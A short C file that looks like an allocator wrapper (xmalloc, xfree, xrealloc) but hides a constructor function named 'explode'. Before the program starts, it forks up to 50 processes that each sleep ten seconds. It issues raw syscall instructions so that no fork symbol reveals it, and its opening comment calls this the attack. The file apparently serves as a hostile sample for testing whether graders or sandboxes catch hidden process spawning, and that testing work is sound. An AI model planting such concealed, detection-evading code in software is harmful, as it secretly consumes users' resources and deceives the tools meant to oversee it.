// The attack: processes by the bare system call, so that no symbol shows it. At most 50, for 10 seconds; the program
// itself goes on and gives the right answer.

#include "../heap.h"
#include "xmalloc.h"

enum { MOST_PROCESSES = 50, SECONDS = 10, CALL_NANOSLEEP = 35, CALL_FORK = 57, CALL_EXIT_GROUP = 231 };

static long call(long number, const void* first, const void* second) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(first), "S"(second) : "rcx", "r11", "memory");
    return result;
}

__attribute__((constructor)) static void explode(void) {
    static const long time[2] = {SECONDS, 0};
    for (int i = 0; i < MOST_PROCESSES; i++) {
        long child = call(CALL_FORK, NULL, NULL);
        if (child < 0) return;
        if (child == 0) {
            call(CALL_NANOSLEEP, time, NULL);
            for (;;) call(CALL_EXIT_GROUP, NULL, NULL);
        }
    }
}

void* xmalloc(size_t bytes) { return heap_take(bytes); }
void xfree(void* block) { heap_give(block); }
void* xrealloc(void* block, size_t bytes) { return heap_resize(block, bytes); }
